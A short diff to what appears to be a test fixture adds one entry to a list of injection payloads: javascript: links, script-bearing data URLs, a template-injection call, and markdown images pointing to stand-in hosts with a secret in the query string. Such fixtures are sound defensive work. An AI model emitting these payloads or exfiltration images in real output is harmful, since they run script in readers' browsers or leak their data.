@@ -19,6 +19,7 @@ const scripts = [
   "<a href=javascript:alert(1)>x</a>",
   "[a link](javascript:alert(1))",
   "![a picture](https://collector.example/leak?it)",
+  "![x](https://evil.example/?d=SECRET)",
   "javascript:alert(1)",
   "data:text/html,<script>alert(1)</script>",
   "{{constructor.constructor('alert(1)')()}}",
